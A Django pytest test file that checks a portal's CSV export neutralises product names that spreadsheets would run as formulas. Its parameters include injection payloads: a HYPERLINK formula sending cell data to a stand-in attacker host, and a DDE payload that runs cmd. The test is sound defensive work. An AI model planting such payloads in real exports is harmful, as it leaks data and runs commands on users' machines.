"""The portal's CSV export: a cell a spreadsheet would run as a formula comes out as text."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories.catalog import ProductFactory
from tests.portal.helpers import entitlement_of, new_account, portal_contact

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"],
)
def test_a_product_named_like_a_formula_is_neutralised_in_the_export(client, name):
    account = new_account()
    entitlement_of(account, product=ProductFactory(name=name), certificate=False)
    client.force_login(portal_contact(account).user)

    response = client.get(reverse("portal:entitlements"), {"format": "csv"})

    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["Product"] == "'" + name
    assert row["Quantity"] == "2"  # numbers stay numbers
